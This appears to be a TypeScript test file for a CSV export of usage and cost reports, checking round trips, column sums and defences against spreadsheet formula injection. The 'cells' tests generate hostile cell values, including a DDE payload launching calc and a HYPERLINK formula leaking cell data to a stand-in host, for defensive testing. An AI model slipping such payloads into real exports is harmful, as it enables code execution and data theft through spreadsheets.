// CSV: hostile cells, the round trip, and sums of each file against the summaries.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { CSV_BOM, csvLine, plainText, safeText } from '#lib/domain/csv.ts';
import { REQUEST_COLUMNS, requestCells, SESSION_COLUMNS, sessionCells } from '#lib/domain/csv-tables.ts';
import { applyRecords, type FoldTables } from '#lib/domain/fold.ts';
import { LIST_PRICES } from '#lib/domain/price.ts';
import { csvReport } from '#server/cli/report-csv.ts';
import { rangeOf, sessionItems, totals } from '#server/cli/report-sums.ts';
import { createDemo } from '#server/sources/demo.ts';

/** A reader that knows nothing of ours: RFC 4180, with the separator of a locale. */
function read(csv: string, separator = ','): string[][] {
	const rows: string[][] = [[]];
	let cell = '';
	let quoted = false;
	for (let i = 0; i < csv.length; i++) {
		const c = csv[i]!;
		if (quoted) {
			if (c !== '"') cell += c;
			else if (csv[i + 1] === '"') cell += csv[i++];
			else quoted = false;
		} else if (c === '"' && cell === '') quoted = true;
		else if (c === separator || c === '\n') {
			rows.at(-1)!.push(c === '\n' ? cell.replace(/\r$/, '') : cell);
			cell = '';
			if (c === '\n') rows.push([]);
		} else cell += c;
	}
	rows.pop();
	return rows;
}

/** Whether a spreadsheet would compute the cell instead of showing it. */
const isLive = (cell: string) =>
	/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹦﹢﹣﹫−]/u.test(cell) || /^[\t\r\n]/.test(cell);

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];
const BEFORE = [
	'',
	' ',
	'\t',
	'\r',
	'\n',
	'\r\n',
	'\u00a0',
	'\u200b',
	'\ufeff',
	'\u202e',
	'\0',
	"'",
	'"',
	';',
	'a;',
	'a\t',
	'a\n',
	'a,"',
	'";'
];
const AFTER = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://x.test?"&A1,"go")', 'SUM(A1:A9)";=1+1'];
const HOSTILE = SIGNS.flatMap((sign) =>
	BEFORE.flatMap((before) => AFTER.map((after) => before + sign + after))
);

describe('cells', () => {
	test('there are hundreds of hostile ones', () => expect(HOSTILE.length).toBeGreaterThan(900));

	test('none of them is live, by comma, by semicolon and by tab', () => {
		for (const text of HOSTILE)
			for (const separator of [',', ';', '\t']) {
				const cells = read(csvLine(['id', text, 'after', null]), separator).flat();
				expect(cells.filter(isLive), `${JSON.stringify(text)} by ${JSON.stringify(separator)}`).toEqual([]);
			}
	});

	test('every one of them comes back as it was', () => {
		for (const text of HOSTILE) {
			const [row] = read(csvLine([text, 'after']));
			expect(row!.map(plainText)).toEqual([text, 'after']);
		}
	});

	test('any text comes back as it was, and is not live', () => {
		const text = fc.string({
			unit: fc.constantFrom(...SIGNS, ...BEFORE, ...'a,;"\'\r\n\t1 '),
			maxLength: 12
		});
		fc.assert(
			fc.property(text, (text) => {
				expect(plainText(safeText(text))).toBe(text);
				expect(read(csvLine([text])).map((row) => row.map(plainText))).toEqual([[text]]);
				expect(isLive(safeText(text))).toBe(false);
			}),
			{ numRuns: 3000, seed: 6 }
		);
	});

	test('ordinary text is left as it is', () => {
		for (const text of ['a-b', 'x=1', 'me@example.com', 'C++', "it's", 'a;b', 'two\nlines', '한국어', ''])
			expect(safeText(text)).toBe(text);
	});

	test('numbers stay numbers, negative ones too, and never get an exponent', () => {
		expect(csvLine([1, -2.5, 0, { decimal: '-0.000000001' }, 1e-7, 123456789012345])).toBe(
			'1,-2.5,0,-0.000000001,0.0000001,123456789012345\r\n'
		);
	});

	test('what is not known is empty; what is no number is refused', () => {
		expect(csvLine([null, '', null])).toBe(',"",\r\n');
		for (const value of [Number.NaN, Number.POSITIVE_INFINITY, { decimal: '=1' }])
			expect(() => csvLine([value])).toThrow('no number');
	});
});

describe('files', () => {
	const NOW = Date.parse('2026-11-20T15:00:00Z');
	const all = [...createDemo({ seed: 5, nowMs: NOW, days: 14 }).backlog()].flat();
	const tables: FoldTables = { sessions: new Map(), days: new Map() };
	applyRecords(
		tables,
		all.map((event, index) => ({ seq: index + 1, slot: index + 1, event })),
		null
	);
	const rows = { ...tables, nowMs: NOW + 3_600_000 };
	const range = rangeOf('2026-11-10', '2026-11-18', 'Asia/Seoul');
	const sums = totals(rows, range);

	/** Nano-dollars of a decimal, in whole numbers. */
	const nano = (decimal: string) => {
		const [whole = '0', fraction = ''] = decimal.split('.');
		return Number(whole) * 1e9 + Number(fraction.padEnd(9, '0'));
	};
	const table = (csv: string) => {
		const [head, ...body] = read(csv.slice(1));
		const at = (name: string) => head!.indexOf(name);
		return {
			head: head!,
			body,
			sum: (name: string, of: (text: string) => number = Number) =>
				body.reduce((n, row) => n + of(row[at(name)]!), 0)
		};
	};

	test('the sessions file has exactly its columns, a byte order mark and CRLF', () => {
		const csv = csvReport('sessions', rows, range, 'Asia/Seoul');
		expect(csv.startsWith(CSV_BOM)).toBe(true);
		expect(csv.slice(1, csv.indexOf('\r\n'))).toBe(
			'session_id,title,project,branch,profile,machine,started_at,ended_at,duration_s,active_s,prompts,api_requests,api_errors,tool_calls,tool_failures,input_tokens,output_tokens,cache_read_tokens,cache_write_5m_tokens,cache_write_1h_tokens,cost_usd,cost_basis,models,lines_added,lines_removed,commits,pull_requests'
		);
		expect(csv.endsWith('\r\n')).toBe(true);
		for (const row of table(csv).body) expect(row.length).toBe(SESSION_COLUMNS.length);
	});

	test.each(['sessions', 'daily'] as const)('%s add up to the totals, to the nano-dollar', (kind) => {
		const { body, sum } = table(csvReport(kind, rows, range, 'Asia/Seoul'));
		expect(body.length).toBeGreaterThan(8);
		expect(sum('cost_usd', nano)).toBe(sums.costNanoUsd);
		expect(sum('api_requests')).toBe(sums.apiRequests);
		expect(sum('input_tokens')).toBe(sums.tokens.input);
		expect(sum('output_tokens')).toBe(sums.tokens.output);
		expect(sum('cache_read_tokens')).toBe(sums.tokens.cacheRead);
		expect(sum('cache_write_5m_tokens') + sum('cache_write_1h_tokens')).toBe(sums.tokens.cacheCreation);
	});

	test('requests add up to the totals but for what is known from metrics alone', () => {
		const requests = all
			.filter((event) => event.name === 'api_request')
			.filter(({ atMs }) => atMs >= range.fromMs && atMs < range.toMs);
		const { sum } = table(
			`${CSV_BOM}${REQUEST_COLUMNS.join(',')}\r\n${requests.map((event) => csvLine(requestCells(event, LIST_PRICES))).join('')}`
		);
		expect(sum('cost_usd', nano) + sums.unloggedNanoUsd).toBe(sums.costNanoUsd);
	});

	test('under a model, what carries no model is empty and not 0', () => {
		const [item] = sessionItems(rows, range);
		const cells = sessionCells(item!, { byModel: true });
		expect(cells[SESSION_COLUMNS.indexOf('prompts')]).toBeNull();
		expect(cells[SESSION_COLUMNS.indexOf('api_requests')]).toBe(item!.inRange.requests);
	});
});
